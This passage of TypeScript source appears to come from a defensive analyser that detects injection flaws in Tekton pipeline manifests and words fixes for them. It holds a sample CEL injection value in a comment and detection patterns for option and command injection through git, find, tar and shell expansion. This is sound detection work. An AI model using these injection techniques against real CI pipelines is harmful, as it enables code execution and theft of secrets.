  const imports = PYTHON.test(program) && !binds.test(code ?? '') ? ' (after import os)' : '';
  return `${read(name)}${imports}`;
}

/**
 * The interpreter a script's `#!` line names (Tekton runs the script with it): the basename of its first word, or of the
 * program `env` runs (`#!/usr/bin/env -S python3 -u`: python3); undefined without a `#!` line (Tekton runs it with sh).
 */
function scriptInterpreter(script: string | undefined): string | undefined {
  const line = /^#!([^\r\n]*)/.exec(script ?? '')?.[1];
  if (line === undefined) return undefined;
  const words = line.trim().split(/[ \t]+/).filter((w) => w !== '');
  // (Tekton's `#!win pwsh.exe -File`: the word after `win` is the Windows interpreter it runs the script with, pod/script.go)
  if (words[0] === 'win') return words[1] === undefined ? undefined : basename(words[1].replace(/\\/g, '/')).replace(/\.exe$/i, '');
  const first = basename(words[0] ?? '');
  if (first !== 'env') return first === '' ? undefined : first;
  // (past env's options, and the values of `-u NAME` and `-C DIR`, coreutils 9.1 env.c, and its NAME=VALUE words)
  for (let k = 1; k < words.length; k++) {
    const w = words[k];
    if (w === '-u' || w === '-C' || w === '--unset' || w === '--chdir') k++;
    else if (!w.startsWith('-') && !/^[A-Za-z_][A-Za-z0-9_]*=/.test(w)) return basename(w);
  }
  return undefined;
}

/**
 * How the code a substitution was pasted into reads the env var instead: in a script, as "$NAME", or in the language of the
 * interpreter its `#!` line names when ENV_READS knows it (`#!/usr/bin/env python3`: os.environ["NAME"], after `import os` where the
 * script has none; `#!/usr/bin/env -u HOME python3`, Tekton's `#!win pwsh.exe`; an awk or jq program file's own); in the code of a shell
 * (`sh -c`) or a command line (`env -S`), as "$NAME" there; in the code of an interpreter of ENV_READS (`python3 -c`,
 * `node -e`), in its own language; in awk's program as ENVIRON["NAME"], in jq's as $ENV.NAME; and where another program
 * (sudo, xargs, ssh, find, watch …) runs its arguments as a command, a step without a script has none to read it in: the
 * command it runs written literally, the value given to it as data from a script. The expression apart where the code reads it in
 * its own language (kubeletFix words its fix from it).
 */
function codeRead(property: string, split: boolean | undefined, program: string | undefined, name: string, script?: string): CodeReading {
  if (property === 'script') {
    // a script of another interpreter reads the env var in its own language (`#!/usr/bin/env python3`: os.environ["NAME"])
    const interpreter = scriptInterpreter(script);
    // (an awk or jq program file, `#!/usr/bin/awk -f`: ENVIRON["NAME"], $ENV.NAME)
    const fileReads: ((n: string) => string) | undefined = interpreter === undefined ? undefined : /^(awk|gawk|mawk|nawk)$/.test(interpreter)
      ? (n) => `ENVIRON["${n}"]` : /^(jq|gojq)$/.test(interpreter) ? (n) => `$ENV.${n}` : undefined;
    // (Python's os.environ needs `import os`, which a script may not have)
    const own = interpreter === undefined || SHELL_NAMES.test(interpreter) ? undefined
      : fileReads?.(name) ?? envReadOf(interpreter, name, script);
    if (own === undefined) return { text: `use "$${name}" (quoted) in the script` };
    return readIn('script', own);
  }
  const p = program === undefined ? undefined : basename(program);
  if (split || p === undefined) return { text: `use "$${name}" (quoted) in the string, where the program's own shell expands it` };
  if (SHELL_NAMES.test(p) || isBusybox(p) || isToybox(p)) return { text: `use "$${name}" (quoted) in the shell code ${p} runs, as data` };
  if (/^(awk|gawk|mawk|nawk)$/.test(p)) return readIn('program', `ENVIRON["${name}"]`);
  if (/^(jq|gojq|jaq)$/.test(p)) return readIn('program', `$ENV.${name}`);
  const read = /^(fish|csh|tcsh|zsh)$/.test(p) ? undefined : envReadOf(p, name);
  if (read !== undefined) return readIn('code', read);
  return {
    text: p === 'ssh'
      ? `write the command ssh runs literally, giving it "$${name}" only as data quoted for the remote host's shell, from a script that reads it `
        + `(script: ssh <host> <program> "$(printf %q "$${name}")")`
      : `write the command ${p} runs literally, giving it "$${name}" (quoted) only as data, from a script that reads it (script: ${p} <program> "$${name}")`,
  };
}

/**
 * The fix of a substitution `text` pasted into the string of env -S at `argv[i]`: GNU env (coreutils 9.1 env.c) expands only
 * `${NAME}` there, outside single quotes (`$NAME` is an error), into the word it stands in, never split, and leaves what single
 * quotes hold as written. Where the word picks what runs (the program's word or one before it), the program and what env reads
 * before it written literally, the value given after it; in the code of a shell named there, `"$NAME"` in single quotes (the
 * shell's own expansion); after another interpreter, its own reading of the env var in single quotes; after any other
 * program, `${NAME}`, one argument of data. `name`: the env var to read; `define`: whether the fix defines it (a param's value).
 */
function splitStringFix(argv: readonly string[], i: number, run: Invocation, text: string, name: string, define: boolean): string {
  const { words, program } = splitStringWords(argv, i, run);
  const at = argv[i].indexOf(text);
  const k = words.findIndex((w) => at >= w.from && at < w.to);
  const p = basename(run.program ?? '');
  // (a param's value through an env var of its own, or the env var whose $(NAME) the kubelet pastes, read as its program reads it)
  const through = define ? `Pass it through env instead: env: [{ name: '${name}', value: '${text.replace(/'/g, "''")}' }] and ` : `Instead of ${text}, which the kubelet pastes, `;
  if (run.programIndex !== i || k <= program || program >= words.length) {
    return `Write the program and what env reads before it literally in the string of env -S, and ${define ? `pass ${text} through env (env: [{ name: '${name}', value: '${text}' }])` : `give $${name}`}`
      + ` to the program only as data, as \${${name}} in an argument after the program's word (env puts its value in that word, never split).`;
  }
  if (SHELL_WORD.test(p)) {
    return `${through}write "$${name}" inside single quotes in the shell's code in the string, as data (${p} -c 'tool "$${name}"' in the string: env -S leaves `
      + `what single quotes hold as written, and ${p} expands it from the environment env passes on).`;
  }
  if (run.interpreter) {
    const read = envReadOf(p, name, argv[i]);
    return `${through}read it in the code from the environment env passes on${read === undefined ? '' : ` (${read})`}, inside single quotes in the string, as data.`;
  }
  return `${through}write \${${name}} in the string instead (GNU env puts the value in that word, one argument of data, never split; it expands no $${name} without braces).`;
}

/** ENV_READS for `program`, else the readings of Python and Node.js as examples. */
function envReadIn(program: string, name: string, code?: string): string {
  return envReadOf(program, name, code) ?? `os.environ["${name}"] (after import os), process.env.${name}`;
}

/**
 * The CEL `when` expressions of a list (a step's, a pipeline task's) that paste a substitution
 * callers can choose: Tekton substitutes params and results into the CEL text before it compiles
 * it, so a value such as `x' == 'x' || '` decides the condition. `fixed`: the param substitutions
 * the run in the same manifest fixes to a constant there.
 */
function celWhens(when: unknown, fixed?: FixedReferences): Array<Omit<Problem, 'location' | 'target'>> {
  return asArray(when).flatMap((w, i) => {
    const occurrences = typeof w?.cel === 'string' ? distinct(untrustedSubstitutions(w.cel, undefined, undefined, fixed)) : [];
    return occurrences.map((found) => ({
      property: `when[${i}].cel`,
      value: found.text,
      problem: `pastes a substitution into a CEL expression, which Tekton compiles and evaluates as code${timesText(found.times)}`,
      fix: `Compare the value with input, operator and values instead: when: [{ input: '${found.text}', operator: 'in', values: ['<allowed>'] }].`,
    }));
  });
}

/**
 * A file's path as a step's container opens it: an absolute one, or a relative one under its literal `workingDir`, cleaned as the
 * kernel resolves it where no link is on the way (joinPath: `/workspace/src/../run.sh` is `/workspace/run.sh`).
 */
function stepPath(path: string, view: ContainerView): string | undefined {
  if (path.startsWith('/')) return joinPath('/', path);
  const dir = view.effective?.workingDir;
  return typeof dir === 'string' && dir.startsWith('/') && !dir.includes('$(') ? joinPath(dir, path) : undefined;
}

/**
 * Whether a file at `path` that step `writer` writes is the one step `runner` opens there: under Tekton's `/workspace`, a
 * workspace's literal `mountPath`, or the literal mount path of a volume both mount there (each step is a container of its own).
 */
function sharedFile(path: string, writer: ContainerView, runner: ContainerView): boolean {
  if (containerPathWithin('/workspace', path)) return true;
  if (asArray(writer.taskSpec?.workspaces).some((w: any) => typeof w?.mountPath === 'string' && !w.mountPath.includes('$(') && containerPathWithin(w.mountPath, path))) return true;
  const mounts = (v: ContainerView) => asArray(v.effective?.volumeMounts).filter((m: any) => typeof m?.name === 'string' && typeof m?.mountPath === 'string');
  return mounts(writer).some((m: any) => !m.mountPath.includes('$(') && containerPathWithin(m.mountPath, path)
    && mounts(runner).some((n: any) => n.name === m.name && n.mountPath === m.mountPath && (n.subPath ?? '') === (m.subPath ?? '')));
}

/**
 * The findings of the scripts a step's script writes from literals (written-scripts.ts: a base64 literal `base64 -d` decodes,
 * `cat > f <<'EOF'`, `echo '…' > f`) that its script runs after writing them, or a later step of the same task runs (its script,
 * or its command: `command: [/scripts/run.sh]`, whose args are the script's positional parameters): each read as shell with
 * the env of the step that runs it, placed at this step's script.
 */
function scriptsWrittenRunAsCode(view: ContainerView, script: string, manifest: any, arrays?: (element: string) => boolean): Array<Omit<Problem, 'location' | 'target'>> {
  const written = scriptsWritten(script);
  if (written.length === 0) return [];
  // the steps of the same task, in order (a step running a StepAction runs none of the files)
  const steps = view.taskSpec === undefined ? [] : containersOf(manifest).filter((v) => v.role === 'step' && v.taskSpec === view.taskSpec);
  const self = steps.findIndex((v) => v.path === view.path);
  const later = self < 0 ? [] : steps.slice(self + 1).filter((v) => !runsStepAction(v));
  const out: Array<Omit<Problem, 'location' | 'target'>> = [];
  const seen = new Set<string>();
  const read = (w: WrittenScript, runner: ContainerView, by: string, parameters: ShellCode['parameters'], shell?: string) => {
    const interpreter = interpreterOf(w.text)?.words ?? [];
    if (!readsAsShell(interpreter)) return;
    const own = shell ?? (interpreter.length === 0 ? 'sh' : basename(interpreter[0]));
    const rc = runner.effective;
    const found = envRunAsCode([{ property: 'script', code: w.text, shell: own, parameters }], asArray(rc?.env), runner.chosenWorkspacePaths,
      runFixedReferences(runner), arrays, [], asArray(rc?.envFrom).length > 0);
    for (const p of found) {
      const problem = `${p.problem}, in the script ${w.path}, which this step's script ${w.decoded ? 'decodes from a base64 literal' : 'writes from a literal'} `
        + `(\`${w.line}\`) and ${by} runs`;
      if (seen.has(`${p.value}\u0000${problem}`)) continue;
      seen.add(`${p.value}\u0000${problem}`);
      out.push({ ...p, problem, fix: `${p.fix} (In the script ${w.path} ${w.decoded ? 'the base64 literal encodes' : 'the literal holds'}.)` });
    }
  };
  for (const w of written) {
    // this step's script, after writing it (the same relative path, or the same file under its working directory)
    const at = stepPath(w.path, view);
    const ownRun = filesRun(script).find((r) => r.at > w.at && (r.path === w.path || (at !== undefined && stepPath(r.path, view) === at)));
    if (ownRun !== undefined) read(w, view, `this step's script (\`${ownRun.line}\`)`, [], ownRun.shell);
    if (at === undefined) continue;
    for (const step of later) {
      if (!sharedFile(at, view, step)) continue;
      const s = step.container?.script;
      const run = typeof s === 'string' ? filesRun(s).find((r) => stepPath(r.path, step) === at) : undefined;
      if (run !== undefined) read(w, step, `the script of ${step.location} (\`${run.line}\`)`, [], run.shell);
      const command = asArray(step.effective?.command).map(jsString);
      const file = typeof s === 'string' ? undefined : fileRunByCommand([...command, ...asArray(step.effective?.args).map(jsString)]);
      if (file !== undefined && stepPath(file.path, step) === at) {
        const args = asArray(step.effective?.args).map(jsString);
        read(w, step, `the command of ${step.location}`, args.map((text, i) => ({ position: i + 1, origin: `args[${i}]`, text })), file.shell);
      }
    }
  }
  return out;
}

/**
 * The env vars of a container (in Tekton's order, the stepTemplate's merged in) whose `value` holds a substitution callers can
 * choose and that shell code of it (its shell script, the code of `sh -c` in its command and args) runs as code (shell.ts
 * `variablesRunAsCode`): one finding per variable, at the first command that does.
 */
function envRunAsCode(
  places: readonly ShellCode[], env: readonly any[], chosen?: ReadonlySet<string>, fixed?: FixedReferences, arrays?: (element: string) => boolean,
  assigned: ReadonlyArray<{ readonly name: string; readonly value: string }> = [], envFrom = false,
): Array<Omit<Problem, 'location' | 'target'>> {
  if (places.length === 0) return [];
  // `env NAME=VALUE` sets its env vars after the container's (the kubelet has expanded `$(NAME)` in the argument from those)
  const { values, names } = envWithCallerValues([...env, ...assigned], chosen, fixed);
  // a later entry of the same name replaces an earlier one; a valueFrom the kubelet fills from what
  // callers choose (a run's annotation, which Tekton copies onto the pod; a ConfigMap or Secret a
  // substitution names) holds their value as much as a value does; envFrom is not read
  const holding = new Map<string, string>();
  for (const { entry, found } of values) {
    if (names.has(entry.name)) holding.set(entry.name, typeof entry.value === 'string' && entry.value !== '' ? `holds ${found.text}` : `the kubelet fills from ${found.text}, which callers choose`);
    else holding.delete(entry.name);
  }
  // a run's label (Tekton copies the run's labels onto the pod) is one word of letters, digits, `-`, `_` and `.`: as a
  // command it names the program (`env` prints the Secrets of the env), but it holds no shell syntax
  const { labels: labelPaths, copies } = labelEnv([...env, ...assigned]);
  // an env var whose value the kubelet expanded a label's $(NAME) into (through copies too) holds that word, unless its value holds
  // another caller's value too (a param: shell syntax), read as such
  const wordCopies = [...copies].filter(([name]) => !names.has(name));
  const words = new Set([...labelPaths.keys(), ...wordCopies.map(([name]) => name)]);
  for (const [name, path] of labelPaths) {
    holding.set(name, `the kubelet fills from valueFrom.fieldRef ${path}, which callers choose (a word, which can name a program)`);
  }
  for (const [name, copy] of wordCopies) holding.set(name, `${copyHolds(copy)}, which callers choose (a word, which can name a program)`);
  // the arguments a shell gets as its positional parameters that hold a caller's value (the kubelet's `$(NAME)` of such an env
  // var in `command` and `args` too, or of one filled from a label: a word), each by the place it has
  const wordArguments = new Set<string>();
  // the kubelet expands `$(NAME)` in command and args from the container's env alone
  const callers = callerEnv(env, chosen, fixed);
  const given = places.map(({ parameters }) => {
    const positions = new Map<number, string>();
    // from an element Tekton expands from an array on (`$(params.list[*])`, the whole element: no argument or several), each
    // position may hold one of its elements or a later element: the first of them that holds a caller's value
    let from: number | undefined;
    let spread: string | undefined;
    for (const { position, origin, text } of parameters) {
      if (from === undefined && (WHOLE_ARRAY.test(text) || arrays?.(text) === true)) from = position;
      const found = untrustedSubstitutions(text, chosen, callers, fixed)[0];
      // else a label's $(NAME), which the kubelet expands in command and args too: a word
      const label = found === undefined && words.size > 0 ? labelReferences(text, labelPaths, copies)[0] : undefined;
      if (found === undefined && label === undefined) continue;
      if (found === undefined) {
        wordArguments.add(origin);
        holding.set(origin, `holds ${label!.text}, ${labelSource(label!)}, a word callers choose, which can name a program,`);
      } else {
        holding.set(origin, `holds ${found.text}`);
      }
      positions.set(position, origin);
      if (from !== undefined) spread ??= origin;
    }
    if (from !== undefined && spread !== undefined) for (let p = from; p <= MAX_POSITION; p++) if (!positions.has(p)) positions.set(p, spread);
    return positions;
  });
  // no env var or argument holds a caller's value: nothing the script runs can be one (the script is not read)
  if (holding.size === 0) return [];
  const reported = new Set<string>();
  // the code of `sh -c` in command and args as the kubelet hands it over (`$$` one `$`); a script is Tekton's file, which it never expands
  // (the step's POSIXLY_CORRECT or POSIX_PEDANTIC, any value, puts every bash it starts in posix mode: an interactive one sources ENV)
  // (or SHELLOPTS naming posix, which bash imports at start-up)
  const posixly = [...env, ...assigned].some(envSetsPosixMode);
  // (the values the step's env gives literally, which env -S's `${NAME}` in the script expands to)
  const literal = fixedEnvValues([...env, ...assigned]);
  // (and those it gives a value not known, `valueFrom`, `$(params.x)`: set, which `${V+word}` reads)
  const unknown = [...new Set([...env, ...assigned].filter((e: any) => typeof e?.name === 'string' && !literal.has(e.name)).map((e: any) => e.name as string))];
  return places.flatMap(({ property, code, shell, parameters }, i) => variablesRunAsCode(property === 'script' ? code : kubeletUnescaped(code),
    new Set([...holding.keys()].filter((n) => !n.includes('['))), given[i], posixly, literal, unknown, shell, envFrom, leadingEmpty(parameters))
    .map((sink) => ({ property, ...sink })))
    .filter(({ origin, syntax }) => !(syntax === true && (words.has(origin) || wordArguments.has(origin))))
    .flatMap(({ property, origin, variable: written, line, how, indirect, code }) => {
      const variable = shownVariable(written);
      if (reported.has(origin)) return [];
      reported.add(origin);
      const holds = holding.get(origin)!;
      if (origin.includes('[')) {
        // an argument the shell gets as a positional parameter
        return [{
          property,
          value: line,
          problem: `runs as code ${origin}, which ${holds} and which the ${property === 'script' ? 'script' : 'shell'} gets as a positional parameter: ${how}`
            + (variable.startsWith('$') ? ` (as ${variable})` : ` (through ${variable.includes('[') ? `\${${variable}}` : variable}, which the script assigns from it)`),
          fix: 'Keep the positional parameter data: pass it only as a quoted argument of a fixed command ("$1"), never as code or as the program, '
            + 'or give the value through env and check it against the values allowed first.',
        }];
      }
      // (an array's element as the shell writes it: `${A[1]}`)
      const data = variable.startsWith('$') ? origin : variable.includes('[') ? `{${shownVariable(variable)}}` : variable;
      return [{
        property,
        value: line,
        // (one word of it, which find reads as one test or action: `for d in $X; do find $d; done`)
        problem: `${indirect === true ? (/^find reads the quoted word[, ]/.test(how) ? 'may give find as a test or action' : 'may run') : / which (the loop gives \S+ one at a time|become the elements of \S+ one each), and find /.test(how) ? 'gives find as a test or action a word of'
          : /^find reads the quoted word[, ]/.test(how) ? 'gives find as a test or action' : 'runs'} `
          + `${/ one (at a time|each), and find |^find reads the quoted word[, ]/.test(how) ? '' : 'as code '}the value of env var ${origin}, which ${holds}: ${how}`
        + (indirect === true ? ` (through ${variable}, ${variable.startsWith('${!') ? 'an indirection' : 'a variable read through a name'} the script does not fix, `
          + 'which may name this env var or any other)'
          : variable === origin ? '' : variable.startsWith('$') ? ` (through ${variable}, the positional parameter the script passes it as)`
            // (an array's element as bash writes it, `${args[1]}`)
            : ` (through ${variable.includes('[') ? `\${${shownVariable(variable)}}` : variable}, which the script assigns from it)`),
        // (the variable the command writes, one the script copies the env var into: `Y="$X"` then `eval "$Y"`; a positional
        // parameter's is the env var the script passes)
        fix: indirect === true ? 'Read a variable the script names literally (or check the name against the names allowed first), and pass its value as data, never '
          + `as code: as a quoted argument of a fixed command, as in tool "$${origin}".`
          : configuredFix(how, origin, variable, line, code) ?? `Pass "$${data}" as data, never as code: as a quoted argument of a fixed command, or to a shell as a positional `
        + `parameter (sh -c 'tool "$1"' _ "$${data}").`,
      }];
    });
}

/** A variable as a finding names it: an array's element whose index is not known as any (`A[@]`; shell.ts reads one past the first as `A[+]`). */
const shownVariable = (variable: string): string => variable.replace(/\[\+\]$/, '[@]');

/**
 * The fix of a value a program reads as an option or runs through its configuration, by how it runs it; undefined for the others.
 * `variable`: the variable the command writes (the env var `name`, one the script assigns from it, or a positional parameter); `code`:
 * the code the interpreter runs as written, its lines kept (CodeSink's), where the fix reads what it imports (`line` where not told).
 */
function configuredFix(how: string, name: string, variable = name, line = '', code = line): string | undefined {
  // (the word the command writes, which is what to quote or put after --: `git clone $R out` with R assigned from X; an array's
  // element in braces, `${A[1]}`, which bash reads as the element, where `$A[1]` is `${A}` then `[1]`)
  // (and an array the command expands whole, `"${args[@]}"`, so: `"$args"` is its first element alone)
  const whole = !variable.startsWith('$') && !variable.includes('[') && line.includes(`\${${variable}[@]}`);
  const written = variable.startsWith('$') ? variable : variable.includes('[') ? `\${${shownVariable(variable)}}` : whole ? `\${${variable}[@]}` : `$${variable}`;
  // (an argument after the code of python3 -c, node -e, perl -e or ruby -e that the interpreter reads as more than data: the env var,
  // exported, read in the code's own language; -- before it where the interpreter may read it as its own option)
  const argvRead = /^it is an argument (\S+) (?:may read as its (own option)|gives its code as data \(\S+\), (?:where the code names (\S+),)?)/.exec(how);
  const envRead = argvRead === null || envReadOf(argvRead[1], '') === undefined ? undefined : (n: string) => envReadOf(argvRead[1], n, code, true)!;
  if (argvRead !== null && envRead !== undefined) {
    const env = /^[A-Za-z_][A-Za-z0-9_]*$/.test(variable) ? variable : 'V';
    const given = env === name ? `env var ${name} already holds it` : env === variable ? `export ${env} first` : `${env}="${written}" ${argvRead[1]} …`;
    return `Pass "${written}" to ${argvRead[1]} through the environment instead (${given}) and read it in the code as ${envRead(env)}, as data`
      + (argvRead[3] === undefined ? '' : `, never given to ${argvRead[3]}`)
      + (argvRead[2] === undefined ? '' : ` (or write -- after the code, before it: ${argvRead[1]} reads no option after --)`) + '.';
  }
  if (/^the shell splits the unquoted value into words after the literal text it starts with, and git \S+ reads/.test(how)) {
    return `Quote "${written}" and write -- before the operands (git clone -- "${written}" dir), so the shell keeps the value one word and git reads it as an operand, never as an option.`;
  }
  if (/^the shell splits the unquoted value into words, which (the loop gives \S+ one at a time|become the elements of \S+ one each), and find reads/.test(how)) {
    return `Start the word with a directory (find "./${written}" …) or give it as the value of a test (-name "${written}"), so find reads each word of the value `
      + 'as a path or the value of a test, never as a test or action of its own.';
  }
  // (the elements an array expanded whole or sliced gives, or joins into one word: each starts where the array is assigned, `find . "${args[@]:1}"`)
  const elements = /^find reads the quoted word "[\s\S]*" \(an element of (\S+) it (?:gives|joins into one word, alone or first): /.exec(how)?.[1];
  if (elements !== undefined) {
    return `Start the element with a directory where the script assigns it (${elements}=(… "./${written}" …)) or give it as the value of a test `
      + `(${elements}=(… -name "${written}" …)), so find reads the value as a path or the value of a test, never as a test or action of its own.`;
  }
  // (the positional parameters `"$@"` or `"$*"` gives: each starts where the command that gives them writes it, `set -- a "$X"`, `f a "$X"`)
  const argument = /^find reads the quoted word "[\s\S]*" \(an argument of (?:(set)|the call of (\S+)|(\S+ [-+]\S+)) it (?:gives|joins into one word, alone or first): /.exec(how);
  if (argument !== null) {
    const giving = argument[1] !== undefined ? 'set --' : argument[2] ?? `${argument[3]} CODE NAME`;
    return `Start the argument with a directory where the script gives it (${giving} … "./${written}" …) or give it as the value of a test `
      + `(${giving} … -name "${written}" …), so find reads the value as a path or the value of a test, never as a test or action of its own.`;
  }
  // (the word as written where it is more than the variable: `find "${X%/}"`, `find "$(echo "$X")"`)
  const quoted = /^find reads the quoted word ("[\s\S]*") \(/.exec(how)?.[1].slice(1, -1) ?? (/^find reads the quoted word, /.test(how) ? written : undefined);
  if (quoted !== undefined) {
    return `Start the word with a directory (find "./${quoted}" …) or give it as the value of a test (-name "${quoted}"), so find reads the value `
      + 'as a path or the value of a test, never as a test or action of its own.';
  }
  // (a word of it a loop or an array's element gives, or a name a pattern in it matches, split again: `for d in $X; do find $d; done`)
  if (/^the shell splits the unquoted value into words, which (the loop gives \S+ one at a time|become the elements of \S+ one each): a word of it, or the names /.test(how)) {
    return `Quote "${written}" and start the word with a directory (find "./${written}" …, -name "${written}"), so the shell neither splits it again nor expands a pattern `
      + 'in it, and find reads it as a path or the value of a test, never as more of its expression.';
  }
  const splitInto = /^the shell splits the unquoted value into words, and (find|tar|wget|rsync|zip) reads/.exec(how);
  if (splitInto !== null) {
    return splitInto[1] === 'find' ? `Quote "${written}" and start the word with a directory (find "./${written}" …, -name "${written}"), so the shell keeps the value one word, `
      + 'which find reads as a path or the value of a test, never as more of its expression.'
      : `Quote "${written}" and write -- before the operands (${splitInto[1]} … -- "${written}"), so the shell keeps the value one word and ${splitInto[1]} reads it as an operand, never as an option.`;
  }
  // (split before the command: by xargs, into the positional parameters `"$@"` gives, into an array's elements `"${A[@]}"` gives)
  const xargsSplit = /^xargs splits what it reads into words at blanks, and (find|tar|wget|rsync|zip) reads/.exec(how);
  if (xargsSplit !== null) {
    return xargsSplit[1] === 'find' ? `Give find "${written}" as one argument of its own, not through xargs, which splits what it reads at blanks: as a path starting with a directory `
      + `(find "./${written}" …) or the value of a test (-name "${written}"), never as more of its expression.`
      : `Give ${xargsSplit[1]} "${written}" as one operand after -- (${xargsSplit[1]} … -- "${written}"), not through xargs, which splits what it reads at blanks.`;
  }
  const listSplit = /^the shell splits the unquoted value into (the positional parameters|the elements of (\S+)), whose words \S+ gives (find|tar|wget|rsync|zip)/.exec(how);
  if (listSplit !== null) {
    const into = listSplit[2] === undefined ? `the positional parameters (set -- "${written}")` : `the elements of ${listSplit[2]} (${listSplit[2]}=("${written}"))`;
    return `Quote "${written}" where the script puts it into ${into}, so the shell keeps the value one word, and `
      + (listSplit[3] === 'find' ? 'give it find as a path starting with a directory ("./…") or the value of a test (-name …), never as more of its expression.'
        : `write -- before the operands (${listSplit[3]} … -- …), so ${listSplit[3]} reads it as an operand, never as an option.`);
  }
  const readSplit = /^(?:(read -a) splits what it reads into the elements of (\S+) at blanks|(mapfile|readarray) gives each line it reads as an element of (\S+)), whose words \S+ gives (find|tar|wget|rsync|zip)/.exec(how);
  if (readSplit !== null) {
    const made = `not as the elements of ${readSplit[2] ?? readSplit[4]}, which ${readSplit[1] ?? readSplit[3]} makes of it`;
    return readSplit[5] === 'find' ? `Give find "${written}" as one argument of its own, ${made}: as a path starting with a directory (find "./${written}" …) `
      + `or the value of a test (-name "${written}"), never as more of its expression.`
      : `Give ${readSplit[5]} "${written}" as one operand after -- (${readSplit[5]} … -- "${written}"), ${made}.`;
  }
  if (/^an interactive shell expands as its prompt/.test(how)) {
    return `Give ${name} a fixed value written in the Task (or leave it unset), or run the shell without -i, which expands no prompt.`;
  }
  if (/^an interactive (bash runs as a command before each prompt|shell sources as a script|bash sources as a script)/.test(how)) {
    return `Give ${name} a fixed value written in the Task (or leave it unset), or run the shell without -i, which reads no ${name}.`;
  }
  if (/^ssh reads it from .+ as its configuration file \(-F /.test(how)) {
    return `Write ssh's configuration in a file of the Task (or its options with -o, literally), never from a caller's value, and pass "${written}" to ssh only as data (an operand after --).`;
  }
  if (/^git reads a value starting with - before its sub-command/.test(how)) {
    return `Write git's global options and sub-command literally (git fetch, never git "${written}" fetch), and pass "${written}" to the sub-command only as data (an operand after --).`;
  }
  if (/^git \S+ reads a value starting with --upload-pack=/.test(how)) {
    return `Write -- before the operands (git clone -- "${written}" dir, git fetch origin -- "${written}"), so git reads "${written}" as an operand, never as an option.`;
  }
  if (/^it is the version spec of the package \S+ that (npm|pnpm|yarn) /.test(how)) {
    return `Write the package's version literally (or pin it in package.json and the lockfile), never from a caller's value, or check "${written}" `
      + `against the versions allowed before the install (case "${written}" in [0-9]*.[0-9]*.[0-9]*) ;; *) exit 1 ;; esac).`;
  }
  const permuted = /^(tar|wget|rsync|zip) reads a value starting with --\S+= there as that option/.exec(how);
  if (permuted !== null) {
    return `Write -- before the operands (${permuted[1]} … -- "${written}"), so ${permuted[1]} reads "${written}" as an operand, never as an option.`;
  }
  const shebang = /^the script's own shell is interactive by its #! line \((#![^)]*?)[ \t]+-[A-Za-z]*i[A-Za-z]*[ \t)]/.exec(how);
  if (shebang !== null) {
    return `Start the script with a #! line that runs no interactive shell (${shebang[1]}, without -i), or give ${name} no caller's value: an interactive shell expands its prompt as code.`;
  }
  if (/runs the command of an ext:: URL/.test(how)) {
    return `Remove the configuration that allows the ext protocol (the -c, --config-env or git config of protocol.ext.allow or protocol.allow, a file of git configuration that sets them, GIT_ALLOW_PROTOCOL naming ext; git runs no ext:: URL by default), and pass "${written}" as the URL after --.`;
  }
  if (/^it is the value of \S+'s \S+, which names (the|a) package it installs/.test(how)) {
    return 'Write the package literally in the script (a name with a version, or a lockfile\'s), never from a caller\'s value.';
  }
  if (/^make (reads a value holding|sets |evaluates )|^it chooses the variable make sets/.test(how)) {
    return `Give make only literal targets and assignments, and let the recipe read "$${name}" from the environment as a quoted shell variable ("$$${name}" in the makefile), as data.`;
  }
  if (/\bgit (-c|config|clone --config|--config-env)\b|^it is the (key|KEY=VALUE) of git|^it is the (value|key) git config sets|runs it as the (upload-pack|receive-pack|upload-archive) command|^it is the option \S+ -o sets|^it is the value of \S+'s \S+ option|^(rsync|tar|zip|wget|sftp|scp) runs it|^git reads the file|^g?make reads the file|^(ssh|scp|sftp) reads (the file|its output as its configuration)|runs ssh for a remote over ssh, which reads the file/.test(how)) {
    return `Write the option or configuration literally in the script (never from a caller's value), and pass "${written}" to the program only as data (an operand after --).`;
  }
  return undefined;
}

/** A whole element that is a whole param (`$(params.p)`, `$(params["p"])`, `$(params.o.k)`: a run's param may be named `o.k`): its name. */
const WHOLE_PARAM = /^\$\(params(?:\.([^()[\]]+)|\[(["'])([^()]*)\2\])\)$/;

/**
 * For a Pipeline's task spec, whether a whole element is a whole param that a run may give as an array, or that the pipeline task
 * passes an array for: every whole param but one Tekton keeps one element (single-elements.ts `singleElements`, the reading
 * ARGUMENT_INJECTION and EXPANSION_INJECTION share: a param the pipeline declares a string or an object, which Tekton v1.15
 * refuses a run's array for, and the pipeline task passes no array of).
 */
function runArrays(single: (element: string) => boolean): (element: string) => boolean {
  return (element) => WHOLE_PARAM.test(element) && !single(element);
}

/**
 * For the task spec of a PipelineRun's own pipelineSpec (or of a pipeline task's `pipelineSpec`, whose child PipelineRun is given
 * that task's params), whether a whole element is a whole param that the run gives as an array, or, given none, that the
 * pipeline declares an array (its default): Tekton v1.15 expands such an element from the array (`paramsFromPipelineRun`,
 * `buildUnresolvedArrayParamDefaults`, then `propagateParams` and `ApplyArrayReplacements`: a run's param the pipeline does not
 * declare included), refusing a run's array only for a param the pipeline declares of another type (`ValidateParamTypesMatching`).
 */
function givenArrays(pipelineParams: readonly any[], runParams: readonly any[]): (element: string) => boolean {
  const declared = declaredTypes(pipelineParams);
  const given = new Map<string, boolean>();
  for (const p of asArray(runParams)) if (typeof p?.name === 'string') given.set(p.name, paramValueType(p.value) === 'array');
  return (element) => {
    const m = WHOLE_PARAM.exec(element);
    if (m === null) return false;
    const name = m[1] ?? m[3];
    const type = declared.get(name);
    return given.has(name) ? given.get(name)! && (type === undefined || type === 'array') : type === 'array';
  };
}

/** The type of each param a pipeline spec declares, as SetDefaults types it (param-types.ts: `type`, else `properties`, else its default's). */
function declaredTypes(pipelineParams: readonly any[]): Map<string, string> {
  const declared = new Map<string, string>();
  for (const p of asArray(pipelineParams)) {
    if (typeof p?.name === 'string') declared.set(p.name, declaredParamType(p));
  }
  return declared;
}

/** The last positional parameter an element Tekton expands from an array is read as reaching (`$32`). */
const MAX_POSITION = 32;

/** An element of `command` or `args` that Tekton expands from an array (`$(params.list[*])`, `$(tasks.t.results.r[*])`): any number of arguments. */
const WHOLE_ARRAY = /^\$\([^()]*\[\s*\*\s*\]\s*\)$/;

/**
 * kubectl's commands that run nothing its arguments name (not `exec`, `run`, `debug`, `attach`, `cp`, `edit`, `diff`, `config`,
 * `kustomize`, `proxy`, `plugin`, `alpha`, `set`, `patch`, nor a plugin `kubectl-<name>`): they send or read objects and print.
 */
const KUBECTL_INERT = new Set(['apply', 'create', 'delete', 'get', 'describe', 'label', 'annotate', 'replace', 'rollout', 'scale', 'wait',
  'logs', 'explain', 'api-resources', 'api-versions', 'version', 'cluster-info']);

